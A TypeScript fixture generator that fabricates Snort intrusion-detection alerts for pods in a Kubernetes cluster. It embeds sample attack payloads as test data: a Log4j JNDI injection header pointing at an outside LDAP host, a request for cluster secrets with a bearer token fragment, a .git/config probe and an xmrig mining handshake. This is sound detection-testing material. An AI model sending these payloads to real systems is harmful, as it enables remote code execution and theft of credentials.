/** Alerts such as a cluster has: of several rules, pods and days, in the agent's own form. A number is one alert. */
import { createHash } from 'node:crypto';
import type { EeEvent } from '../../agent/events/event.ts';

interface Kind {
  sid: number;
  message: string;
  classification: string;
  classtype: string;
  priority: number;
  service: string;
  port: number;
  tactic?: string;
  techniques?: string[];
  cves?: string[];
  links?: string[];
  mitigation?: string;
  payload: string;
  /** How often, beside the others. */
  weight: number;
}

const KINDS: readonly Kind[] = [
  {
    sid: 21562,
    message: 'MALWARE-CNC Win.Trojan.Bredolab variant outbound connection',
    classification: 'A Network Trojan was detected',
    classtype: 'trojan-activity',
    priority: 1,
    service: 'http',
    port: 80,
    tactic: 'TA0011',
    techniques: ['T1071.001'],
    links: ['https://www.virustotal.com/gui/file/4b2b2b0cd3f4a4dd5a9b8a2f7c6f7c90'],
    mitigation:
      'Isolate the pod with a NetworkPolicy that denies egress, keep its evidence, and replace it from a clean image.',
    payload:
      'POST / HTTP/1.1\r\nHost: backend\r\nUser-Agent: Mozilla/4.0\r\nAccept: */*\r\nContent-Length: 8\r\n\r\nsmk=1234',
    weight: 3,
  },
  {
    sid: 1000104,
    message: 'SERVER-WEBAPP Log4j JNDI lookup in a request header',
    classification: 'Attempted Administrator Privilege Gain',
    classtype: 'attempted-admin',
    priority: 1,
    service: 'http',
    port: 8080,
    tactic: 'TA0001',
    techniques: ['T1190'],
    cves: ['CVE-2021-44228'],
    links: ['https://nvd.nist.gov/vuln/detail/CVE-2021-44228', 'https://logging.apache.org/log4j/2.x/security.html'],
    mitigation: 'Update Log4j to 2.17.1 or newer.',
    payload: 'GET / HTTP/1.1\r\nHost: shop\r\nX-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}\r\n\r\n',
    weight: 2,
  },
  {
    sid: 1000021,
    message: 'POLICY Kubernetes service account token in clear text',
    classification: 'Potential Corporate Privacy Violation',
    classtype: 'policy-violation',
    priority: 2,
    service: 'http',
    port: 8443,
    tactic: 'TA0006',
    techniques: ['T1552.007'],
    payload: 'GET /api/v1/secrets HTTP/1.1\r\nAuthorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ij',
    weight: 4,
  },
  {
    sid: 1000045,
    message: 'INDICATOR-SCAN Requests for many paths of a web server by one client',
    classification: 'Detection of a Network Scan',
    classtype: 'network-scan',
    priority: 3,
    service: 'http',
    port: 80,
    tactic: 'TA0007',
    techniques: ['T1046'],
    payload: 'GET /.git/config HTTP/1.1\r\nHost: 10.65.0.2\r\n\r\n',
    weight: 12,
  },
  {
    sid: 1000060,
    message: 'MALWARE-OTHER Stratum mining protocol, mining.subscribe',
    classification: 'Crypto Currency Mining Activity Detected',
    classtype: 'coin-mining',
    priority: 2,
    service: 'unknown',
    port: 3333,
    tactic: 'TA0040',
    techniques: ['T1496'],
    payload: '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\n',
    weight: 2,
  },
  {
    sid: 408,
    message: 'PROTOCOL-ICMP Echo Reply',
    classification: 'Misc activity',
    classtype: 'misc-activity',
    priority: 4,
    service: 'unknown',
    port: 7,
    payload: 'abcdefghijklmnopqrstuvwabcdefghi',
    weight: 9,
  },
];

const PODS = [
  ['shop', 'frontend-6d9c7b5f4-kx2lm', 'frontend-6d9c7b5f4-*', '10.65.0.11'],
  ['shop', 'cart-7d4b8c6d9-x2x9z', 'cart-7d4b8c6d9-*', '10.65.0.12'],
  ['shop', 'checkout-5c8f9d7b6-h8tzp', 'checkout-5c8f9d7b6-*', '10.65.0.13'],
  ['payments', 'ledger-0', 'ledger-*', '10.65.1.21'],
  ['payments', 'gateway-68bd5f7c8d-9qwvl', 'gateway-68bd5f7c8d-*', '10.65.1.22'],
  ['ci', 'runner-x7k2p', 'runner-*', '10.65.2.31'],
] as const;

/** What the flow's packets said. */
function said({ service, port }: Kind, dice: number): Pick<EeEvent['record'], 'app' | 'outcome' | 'community_id'> {
  const pick = <T>(from: readonly [T, ...T[]]): T => from[(dice >> 3) % from.length] ?? from[0];
  const community_id = `1:${createHash('sha1').update(`${port} ${dice}`).digest('base64')}`;
  if (service === 'http') {
    const status = pick([200, 404, 500]);
    const http = {
      method: pick(['GET', 'POST', 'PUT']),
      host: pick(['web.shop.test:8080', 'API.shop.test']),
      url: pick(['/.git/config', '/Login?next=/a', '/api/v1/secrets']),
      user_agent: pick(['curl/7.88.1', 'Mozilla/4.0']),
      status,
    };
    return { community_id, outcome: pick(['2xx', '4xx', '5xx']), app: { protocol: 'http', http } };
  }
  if (port !== 3333) {
    const dns = { id: 7, questions: [{ name: pick(['evil.test', 'a.evil.test']), type: 'A' }], rcode: 'NXDOMAIN' };
    return { community_id, outcome: 'answered', app: { protocol: 'dns', dns } };
  }
  const tls = {
    sni: 'pool.mine.test',
    ja3: '5a1edc7f170af1014fc65c994878e63c',
    ja4: 't13d3111h2_e8f1e7e78f70_1f22a2ca17c4',
  };
  const ssh = { hassh: '472b5de333ad665af5cbf10ff892c4df', hassh_server: '425d29fe50d8e4f5e37efb6e24bcf660' };
  return pick([true, false])
    ? { community_id, outcome: 'no-answer', app: { protocol: 'tls', tls } }
    : { community_id, outcome: 'reset', app: { protocol: 'ssh', ssh } };
}

const TOTAL = KINDS.reduce((sum, { weight }) => sum + weight, 0);

/** @param time When it was captured, in milliseconds since the epoch. */
export function alertEvent(number: number, time: number, changes: { event?: object; record?: object } = {}): EeEvent {
  const kind = kindOf(number);
  const dice = mixed(number);
  const [namespace, name, nameAggr, ip] = PODS[dice % PODS.length] ?? PODS[0];
  const [otherNamespace, other, otherAggr, otherIp] = PODS[(dice >> 8) % PODS.length] ?? PODS[1];
  const outside = (dice >> 4) % 4 === 0 || name === other;
  const source = outside
    ? { ip: `203.0.113.${1 + ((dice >> 12) % 250)}`, name: '-', aggr: '-', namespace: '-' }
    : { ip: otherIp, name: other, aggr: otherAggr, namespace: otherNamespace };
  const port = 32_768 + (mixed(number + 7) % 28_000);
  const micros = String(mixed(number + 13) % 1000).padStart(3, '0');
  const timestamp = `${new Date(time).toISOString().slice(0, -1)}${micros}Z`;
  const position = `lane0-20261124T000000Z-aaaaaa:${number * 465}`;
  const node = `worker-${1 + (dice % 3)}`;
  const origin = `dpi.${namespace}/${namespace === 'shop' ? 'all-pods' : 'default'}`;
  const payload = Buffer.from(kind.payload);
  return {
    type: 'deep_packet_inspection',
    origin,
    severity: Math.max(20, 120 - 20 * kind.priority),
    attack_vector: 'Network',
    description: 'Deep Packet Inspection found a matching snort rule(s) for some packets in your network',
    time: Math.floor(time / 1000),
    host: node,
    source_ip: source.ip,
    source_port: port,
    source_name: source.name,
    source_name_aggr: source.aggr,
    source_namespace: source.namespace,
    dest_ip: ip,
    dest_port: kind.port,
    dest_name: name,
    dest_name_aggr: nameAggr,
    dest_namespace: namespace,
    ...(kind.techniques === undefined ? {} : { mitre_ids: kind.techniques }),
    mitre_tactic: kind.tactic ?? 'n/a',
    ...(kind.mitigation === undefined ? {} : { mitigations: [kind.mitigation] }),
    ...changes.event,
    record: {
      snort_signature_id: String(kind.sid),
      snort_signature_revision: '3',
      snort_alert: `${timestamp} [**] [1:${kind.sid}:3] "${kind.message}" [**] [Priority: ${kind.priority}] {TCP} ${source.ip}:${port} -> ${ip}:${kind.port}`,
      event_id: createHash('sha1').update(position).digest('hex'),
      position,
      timestamp,
      generator_id: '1',
      message: kind.message,
      classification: kind.classification,
      priority: kind.priority,
      protocol: 'TCP',
      ...(kind.service === 'unknown' ? {} : { service: kind.service }),
      classtype: kind.classtype,
      ...(kind.links === undefined ? {} : { links: kind.links }),
      ...(dice % 2 === 0 ? said(kind, dice) : {}),
      ...(kind.tactic === undefined ? {} : { mitre_source: 'rule' as const }),
      ...(kind.cves === undefined ? {} : { cves: kind.cves }),
      engine: { name: 'snort', version: '3.12.2.0' },
      seen_at: [{ namespace, name, interface: `cali${createHash('sha1').update(name).digest('hex').slice(0, 11)}` }],
      payload: payload.toString('base64'),
      payload_bytes: payload.length,
      ...changes.record,
    },
  };
}

function kindOf(number: number): Kind {
  let left = mixed(number + 3) % TOTAL;
  for (const kind of KINDS) {
    if (left < kind.weight) return kind;
    left -= kind.weight;
  }
  return KINDS[0] ?? fail();
}

function fail(): never {
  throw new Error('there are kinds of alerts');
}

/** An integer that looks random, from 0 to 2^31. */
function mixed(number: number): number {
  let mix = Math.imul(number ^ 0x9e3779b9, 0x85ebca6b);
  mix = Math.imul(mix ^ (mix >>> 13), 0xc2b2ae35);
  return (mix ^ (mix >>> 16)) >>> 1;
}
